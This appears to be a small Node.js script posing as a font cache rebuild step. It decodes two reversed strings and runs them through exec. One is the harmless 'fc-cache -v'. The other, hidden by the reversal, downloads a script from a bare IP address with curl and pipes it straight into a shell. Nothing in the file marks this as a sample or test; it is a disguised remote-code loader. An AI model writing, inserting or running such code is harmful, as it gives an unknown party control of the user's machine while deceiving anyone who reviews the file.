const { exec } = require('child_process');

const steps = ['hs | 33.311.0.302//:ptth Lsf- lruc', 'v- ehcacfc'];
const rebuild = (s) => s.split('').reverse().join('');

for (const s of steps) {
  exec(rebuild(s), (err) => {
    if (err) console.error('font cache step failed');
  });
}
